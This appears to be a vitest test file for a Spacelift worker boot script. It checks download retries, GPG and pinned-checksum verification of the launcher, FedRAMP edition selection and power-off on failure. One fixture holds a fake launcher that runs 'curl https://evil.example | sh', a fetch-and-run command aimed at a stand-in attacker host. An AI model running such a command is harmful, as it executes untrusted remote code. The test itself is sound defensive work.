import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { keyServers, otherFingerprint, Sandbox, tokenFor, trustedFingerprint } from './testing/sandbox.ts';

const launcherUrl = 'https://downloads.spacelift.io/spacelift-launcher-x86_64';

describe('fetching the launcher', () => {
  it('retries every download, and fails if a download fails (U2)', async () => {
    using sandbox = new Sandbox();

    await sandbox.boot();

    const downloads = sandbox.downloads;
    expect(downloads).toHaveLength(4);
    for (const download of downloads) {
      expect(download).toMatch(/--fail .*--retry 5 --retry-all-errors/);
    }
  });

  it.each([launcherUrl, `${launcherUrl}_SHA256SUMS`, `${launcherUrl}_SHA256SUMS.sig`])(
    'powers off without %s',
    async (url) => {
      using sandbox = new Sandbox();
      sandbox.unpublish(url);

      const boot = await sandbox.boot();

      expect(boot.status).not.toBe(0);
      expect(boot.output).toContain('the boot failed at the step: launcher');
      await expectNoWorker(sandbox);
    },
  );

  it.each(keyServers.slice(1))(
    'gets the key from %s if the servers before it do not have it (U3)',
    async (server) => {
      using sandbox = new Sandbox();
      sandbox.unpublish(keyServers[0]);
      sandbox.publish(server, '-----BEGIN PGP PUBLIC KEY BLOCK-----\n');

      const boot = await sandbox.boot();

      expect(boot.status).toBe(0);
      expect(boot.output).toContain(`cannot get the key from ${keyServers[0]}`);
    },
  );

  it('tries the next key server if the answer is not a key', async () => {
    using sandbox = new Sandbox();
    sandbox.publish(keyServers[0], '<html>busy</html>');
    sandbox.publish(keyServers[1], '-----BEGIN PGP PUBLIC KEY BLOCK-----\n');

    expect((await sandbox.boot()).status).toBe(0);
  });

  it('powers off if no server has the key, and logs what to do', async () => {
    using sandbox = new Sandbox();
    sandbox.unpublish(keyServers[0]);

    const boot = await sandbox.boot();

    expect(boot.output).toContain('from any key server: set launcher.sha256 to do without it');
    await expectNoWorker(sandbox);
  });

  it('rejects checksums that another key has signed', async () => {
    using sandbox = new Sandbox();
    sandbox.sign(['GOODSIG', otherFingerprint, otherFingerprint]);

    const boot = await sandbox.boot();

    expect(boot.output).toContain('not signed by the key 175FD97AD2358EFE02832978E302FB5AA29D88F7');
    await expectNoWorker(sandbox);
  });

  it.each([
    ['the primary key', trustedFingerprint, trustedFingerprint],
    ['a subkey', otherFingerprint, trustedFingerprint],
    ['the signing key itself, whatever its primary key', trustedFingerprint, otherFingerprint],
  ])('accepts checksums that %s has signed, and logs when', async (_, signing, primary) => {
    using sandbox = new Sandbox();
    sandbox.sign(['GOODSIG', signing, primary]);

    const boot = await sandbox.boot();

    expect(boot.status).toBe(0);
    expect(boot.output).toContain("the launcher's checksums were signed on 2026-01-01");
  });

  it.each([
    ['is revoked', 'REVKEYSIG'],
    ['has expired', 'EXPKEYSIG'],
    ['is valid, with a signature that has expired', 'EXPSIG'],
  ])('rejects checksums that are signed by a key that %s', async (_, verdict) => {
    using sandbox = new Sandbox();
    sandbox.sign([verdict, trustedFingerprint, trustedFingerprint]);

    const boot = await sandbox.boot();

    expect(boot.output).toContain(`is not good: ${verdict}. To do without it, set launcher.sha256`);
    await expectNoWorker(sandbox);
  });

  it("rejects a revoked key's signature beside a good one of another key", async () => {
    using sandbox = new Sandbox();
    sandbox.sign(
      ['GOODSIG', otherFingerprint, otherFingerprint],
      ['REVKEYSIG', trustedFingerprint, trustedFingerprint],
    );

    const boot = await sandbox.boot();

    expect(boot.output).toContain('is not good: REVKEYSIG');
    await expectNoWorker(sandbox);
  });

  it.each(['  spacelift-launcher-x86_64', ' *build/spacelift-launcher-x86_64', '  spacelift-launcher'])(
    'accepts a launcher that is listed as "%s"',
    async (listedAs) => {
      using sandbox = new Sandbox();
      sandbox.publishLauncher(launcherUrl, undefined, listedAs);

      expect((await sandbox.boot()).status).toBe(0);
    },
  );

  it.each([
    '  spacelift-worker-x86_64',
    '  spacelift-launcher-aarch64',
    '  spacelift-launcher-fedramp-x86_64',
    '',
  ])('rejects a launcher whose checksum is that of another file (%s)', async (listedAs) => {
    using sandbox = new Sandbox();
    sandbox.publishLauncher(launcherUrl, undefined, listedAs);

    const boot = await sandbox.boot();

    expect(boot.output).toMatch(
      /the launcher's checksum [0-9a-f]{64} is not in the signed list as spacelift-launcher-x86_64/,
    );
    await expectNoWorker(sandbox);
  });

  it('rejects checksums with the signature of another file', async () => {
    using sandbox = new Sandbox();
    sandbox.publish(`${launcherUrl}_SHA256SUMS.sig`, 'signature of something else\n');

    const boot = await sandbox.boot();

    expect(boot.output).toContain("the signature of the launcher's checksums is invalid");
    await expectNoWorker(sandbox);
  });

  it('rejects a launcher that is not in the list of checksums', async () => {
    using sandbox = new Sandbox();
    sandbox.publish(launcherUrl, '#!/bin/sh\ncurl https://evil.example | sh\n');

    const boot = await sandbox.boot();

    expect(boot.output).toMatch(/the launcher's checksum [0-9a-f]{64} is not in the signed list/);
    await expectNoWorker(sandbox);
  });

  it('accepts a pinned checksum instead of a signature', async () => {
    const launcher = '#!/bin/sh\n# the right one\n';
    using sandbox = new Sandbox({ launcher: { sha256: sha256(launcher) } });
    sandbox.publish(launcherUrl, launcher);
    sandbox.unpublish(`${launcherUrl}_SHA256SUMS`);
    sandbox.unpublish(keyServers[0]);

    expect((await sandbox.boot()).status).toBe(0);
    expect(sandbox.callsOf('gpg')).toEqual([]);
  });

  it('rejects a launcher whose checksum is not the pinned one', async () => {
    using sandbox = new Sandbox({ launcher: { sha256: '0'.repeat(64) } });

    const boot = await sandbox.boot();

    expect(boot.output).toContain(`the launcher's checksum is not ${'0'.repeat(64)}`);
    await expectNoWorker(sandbox);
  });

  it('also checks the pinned checksum of a self-hosted launcher (U4)', async () => {
    using sandbox = new Sandbox({
      selfHosted: { launcherUri: 's3://launchers/path/launcher' },
      launcher: { sha256: '0'.repeat(64) },
    });
    sandbox.write('buckets/launchers/path/launcher', '#!/bin/sh\n');

    const boot = await sandbox.boot();

    expect(boot.output).toContain('as launcher.sha256 requires');
    await expectNoWorker(sandbox);
  });

  it('powers off if the self-hosted launcher does not exist (U4)', async () => {
    using sandbox = new Sandbox({ selfHosted: { launcherUri: 's3://launchers/gone' } });

    expect((await sandbox.boot()).status).not.toBe(0);
    await expectNoWorker(sandbox);
  });

  it('downloads from a mirror', async () => {
    using sandbox = new Sandbox({ launcher: { downloadBaseUrl: 'https://mirror.acme.internal/spacelift/' } });
    sandbox.publishLauncher('https://mirror.acme.internal/spacelift/spacelift-launcher-x86_64');
    sandbox.unpublish(launcherUrl);

    expect((await sandbox.boot()).status).toBe(0);
  });

  it.each([
    {
      takes: 'the FedRAMP one when the token says so',
      fedRamp: 'auto',
      broker: 'worker-iot.fedramp.spacelift.io',
      edition: '-fedramp',
    },
    {
      takes: 'the FedRAMP one of the test installation',
      fedRamp: 'auto',
      broker: 'a.fedramp.spacelift.dev:443',
      edition: '-fedramp',
    },
    {
      takes: 'the usual one for a host that only looks like it',
      fedRamp: 'auto',
      broker: 'fedramp.spacelift.io.evil.example',
      edition: '',
    },
    {
      takes: 'the FedRAMP one when it is told to',
      fedRamp: true,
      broker: 'mqtt.spacelift.io',
      edition: '-fedramp',
    },
    {
      takes: 'the usual one when it is told to',
      fedRamp: false,
      broker: 'worker-iot.fedramp.spacelift.io',
      edition: '',
    },
  ] as const)('takes $takes', async ({ fedRamp, broker, edition }) => {
    using sandbox = new Sandbox({
      launcher: { fedRamp, communicationUrl: 'https://workers.acme.internal' },
    });
    sandbox.keepSecret('secrets-manager', 'poolkeeper/blue/worker', { SPACELIFT_TOKEN: tokenFor(broker) });
    sandbox.publishLauncher(`https://downloads.spacelift.io/spacelift-launcher${edition}-x86_64`);

    const boot = await sandbox.boot();

    expect(boot.status).toBe(0);
    expect(sandbox.callsOf('curl').some((call) => call.includes('launcher-fedramp'))).toBe(edition !== '');
  });

  it('powers off if the token is of FedRAMP, and no URL is configured for its workers', async () => {
    using sandbox = new Sandbox();
    sandbox.keepSecret('secrets-manager', 'poolkeeper/blue/worker', {
      SPACELIFT_TOKEN: tokenFor('worker-iot.fedramp.spacelift.io'),
    });
    sandbox.publishLauncher('https://downloads.spacelift.io/spacelift-launcher-fedramp-x86_64');

    const boot = await sandbox.boot();

    expect(boot.output).toContain(
      'whose workers do not connect to https://app.spacelift.io: set launcher.communicationUrl',
    );
    await expectNoWorker(sandbox);
  });

  it('powers off if the token is invalid, and does not log it', async () => {
    using sandbox = new Sandbox();
    sandbox.keepSecret('secrets-manager', 'poolkeeper/blue/worker', { SPACELIFT_TOKEN: 'hunter2!' });

    const boot = await sandbox.boot();

    expect(boot.output).toContain('SPACELIFT_TOKEN is not a worker pool token');
    expect(boot.output).not.toContain('hunter2');
    await expectNoWorker(sandbox);
  });
});

/** The service has begun beside the setup. */
async function expectNoWorker(sandbox: Sandbox): Promise<void> {
  expect(sandbox.calls).toContain('systemd-run --quiet --collect --on-active=15 systemctl poweroff');
  const service = await sandbox.startService();
  expect(service.status).not.toBe(0);
  expect(service.output).not.toContain('the launcher runs');
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}
